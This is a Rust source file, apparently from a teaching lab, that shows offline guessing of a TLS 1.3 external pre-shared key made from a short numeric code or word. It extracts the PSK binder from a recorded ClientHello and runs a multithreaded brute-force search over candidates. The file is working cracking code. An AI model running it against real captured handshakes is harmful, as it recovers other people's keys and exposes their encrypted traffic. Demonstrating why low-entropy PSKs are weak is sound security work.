//! Offline guessing of an external PSK made from a short code, from one recorded
//! ClientHello.
//!
//! The binder a client sends with its PSK (RFC 8446 §4.2.11.2) is an HMAC keyed from the
//! PSK alone, over bytes anyone on the path sees. So each candidate code can be checked
//! against a recording without talking to anyone: derive the PSK the way the user did,
//! run it through the binder's key schedule (§7.1) and compare. Nothing in the handshake
//! slows this down, and (EC)DHE does not help: the binder is computed before any key
//! share is used. RFC 8446 §2.2 and RFC 9257 §4.2 warn of exactly this.

pub mod capture;

use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use handshake::binders::{OfferedBinder, external_binder, offered_binders};
use handshake::key_schedule::HASH_LEN;
use sha2::{Digest, Sha256};
use subtle::ConstantTimeEq;

/// The naive way to turn a short code into a PSK: SHA-256 of its UTF-8 bytes. It yields
/// 32 bytes that look as strong as any key, but there are only as many of them as codes.
pub fn naive_psk(code: &str) -> [u8; HASH_LEN] {
    Sha256::digest(code.as_bytes()).into()
}

/// What the guesses are checked against: one offered PSK's binder.
#[derive(Clone, Debug)]
pub struct Target {
    /// The identity the binder belongs to.
    pub identity: String,
    /// The binder sent.
    pub binder: [u8; HASH_LEN],
    /// Transcript-Hash(Truncate(ClientHello)), computed once for all guesses.
    pub partial_hash: [u8; HASH_LEN],
}

impl Target {
    /// The binder of `identity` in an encoded ClientHello.
    pub fn from_client_hello(client_hello: &[u8], identity: &str) -> Result<Self, String> {
        let offered = offered_binders(client_hello)
            .map_err(|e| format!("the recorded ClientHello does not decode: {e}"))?;
        if offered.is_empty() {
            return Err("the recorded ClientHello offers no pre-shared key".into());
        }
        let names = || {
            offered
                .iter()
                .map(|o| format!("{:?}", String::from_utf8_lossy(&o.identity)))
                .collect::<Vec<_>>()
                .join(", ")
        };
        let found: &OfferedBinder = offered
            .iter()
            .find(|o| o.identity == identity.as_bytes())
            .ok_or_else(|| {
                format!(
                    "the ClientHello offers no PSK named {identity:?} (it offers {})",
                    names()
                )
            })?;
        let binder = found.binder.as_slice().try_into().map_err(|_| {
            format!(
                "a binder of {} bytes is not SHA-256's: keylab guesses SHA-256 PSKs only",
                found.binder.len()
            )
        })?;
        Ok(Self {
            identity: identity.to_owned(),
            binder,
            partial_hash: found.partial_hash,
        })
    }

    /// Whether `code`, made into a PSK the naive way, gives this binder. Per guess: one
    /// SHA-256 of the code, HKDF-Extract, Derive-Secret, HKDF-Expand-Label and the HMAC.
    pub fn matches(&self, code: &str) -> bool {
        let binder = external_binder(&naive_psk(code), &self.partial_hash);
        binder.ct_eq(&self.binder).into()
    }
}

/// The codes to try, in order.
#[derive(Clone, Debug)]
pub enum Candidates {
    /// Every code of this many decimal digits, leading zeros included, from 0 up.
    Digits(u32),
    /// Words, one per line of a word list.
    Words(Vec<String>),
}

impl Candidates {
    /// How many codes there are.
    pub fn len(&self) -> u64 {
        match self {
            Candidates::Digits(n) => 10u64.saturating_pow(*n),
            Candidates::Words(w) => w.len() as u64,
        }
    }

    /// Whether there is none.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The `index`-th code, written into `buf`.
    fn write(&self, index: u64, buf: &mut String) {
        buf.clear();
        match self {
            Candidates::Digits(n) => {
                use std::fmt::Write as _;
                let _ = write!(buf, "{index:0width$}", width = *n as usize);
            }
            Candidates::Words(words) => {
                if let Some(w) = usize::try_from(index).ok().and_then(|i| words.get(i)) {
                    buf.push_str(w);
                }
            }
        }
    }
}

/// How far a search may go.
#[derive(Clone, Copy, Debug)]
pub struct Budget {
    /// At most this many guesses.
    pub max_guesses: u64,
    /// At most this long.
    pub time_limit: Duration,
    /// Threads guessing in parallel.
    pub threads: usize,
}

/// What a search found.
#[derive(Clone, Debug, PartialEq)]
pub struct Found {
    /// The code.
    pub code: String,
    /// Its place in the candidate order, from 1: the guesses a single thread would need.
    pub position: u64,
}

/// The result of a search.
#[derive(Clone, Debug)]
pub struct Search {
    /// The matching code, if any.
    pub found: Option<Found>,
    /// Guesses made (over all threads).
    pub guesses: u64,
    /// Candidates there were.
    pub candidates: u64,
    /// Wall-clock time taken.
    pub elapsed: Duration,
    /// Threads used.
    pub threads: usize,
    /// Why it stopped without trying every candidate, if it did.
    pub stopped: Option<&'static str>,
}

impl Search {
    /// Guesses per second over the whole search.
    pub fn rate(&self) -> f64 {
        self.guesses as f64 / self.elapsed.as_secs_f64().max(1e-6)
    }
}

/// How often a thread looks at the clock and the other threads.
const CHECK_EVERY: u64 = 256;

/// Tries the candidates against `target` on `budget.threads` threads (thread `t` takes
/// every `threads`-th candidate from `t`), until one matches or the budget runs out.
pub fn search(target: &Target, candidates: &Candidates, budget: Budget) -> Search {
    let start = Instant::now();
    let threads = budget.threads.clamp(1, 64);
    let limit = candidates.len().min(budget.max_guesses);
    let stop = AtomicBool::new(false);
    let timed_out = AtomicBool::new(false);
    let guesses = AtomicU64::new(0);
    let found: Mutex<Option<Found>> = Mutex::new(None);
    std::thread::scope(|scope| {
        for t in 0..threads {
            let (stop, timed_out, guesses, found) = (&stop, &timed_out, &guesses, &found);
            scope.spawn(move || {
                let mut code = String::new();
                let mut made = 0u64;
                let mut index = t as u64;
                while index < limit {
                    if made > 0 && made.is_multiple_of(CHECK_EVERY) {
                        if stop.load(Ordering::Relaxed) {
                            break;
                        }
                        if start.elapsed() >= budget.time_limit {
                            timed_out.store(true, Ordering::Relaxed);
                            stop.store(true, Ordering::Relaxed);
                            break;
                        }
                    }
                    candidates.write(index, &mut code);
                    made += 1;
                    if target.matches(&code) {
                        if let Ok(mut slot) = found.lock() {
                            let better = slot.as_ref().is_none_or(|f| f.position > index + 1);
                            if better {
                                *slot = Some(Found {
                                    code: code.clone(),
                                    position: index + 1,
                                });
                            }
                        }
                        stop.store(true, Ordering::Relaxed);
                        break;
                    }
                    index += threads as u64;
                }
                guesses.fetch_add(made, Ordering::Relaxed);
            });
        }
    });
    let found = found.into_inner().ok().flatten();
    let stopped = if found.is_some() {
        None
    } else if timed_out.load(Ordering::Relaxed) {
        Some("the time limit")
    } else if limit < candidates.len() {
        Some("the guess limit")
    } else {
        None
    };
    Search {
        found,
        guesses: guesses.load(Ordering::Relaxed),
        candidates: candidates.len(),
        elapsed: start.elapsed(),
        threads,
        stopped,
    }
}

/// Seconds to try all `digits`-digit codes at `rate` guesses per second.
pub fn seconds_for_digits(digits: u32, rate: f64) -> f64 {
    10f64.powi(digits as i32) / rate.max(1e-9)
}

/// A duration in words a reader takes in at once: seconds, minutes, hours, days, years.
pub fn human_duration(seconds: f64) -> String {
    const UNITS: [(f64, &str); 4] = [
        (365.25 * 86_400.0, "years"),
        (86_400.0, "days"),
        (3_600.0, "hours"),
        (60.0, "minutes"),
    ];
    for (size, name) in UNITS {
        if seconds >= size {
            return format!("{:.1} {name}", seconds / size);
        }
    }
    format!("{seconds:.2} s")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn digit_candidates_keep_leading_zeros() {
        let c = Candidates::Digits(4);
        assert_eq!(c.len(), 10_000);
        let mut s = String::new();
        c.write(42, &mut s);
        assert_eq!(s, "0042");
        c.write(9_999, &mut s);
        assert_eq!(s, "9999");
    }

    #[test]
    fn the_naive_psk_is_sha256_of_the_code() {
        assert_eq!(
            hex::encode(naive_psk("123456")),
            "8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92"
        );
    }

    #[test]
    fn durations_read_in_the_largest_unit() {
        assert_eq!(human_duration(0.5), "0.50 s");
        assert_eq!(human_duration(90.0), "1.5 minutes");
        assert_eq!(human_duration(86_400.0 * 3.0), "3.0 days");
        assert_eq!(human_duration(365.25 * 86_400.0 * 2.0), "2.0 years");
    }
}
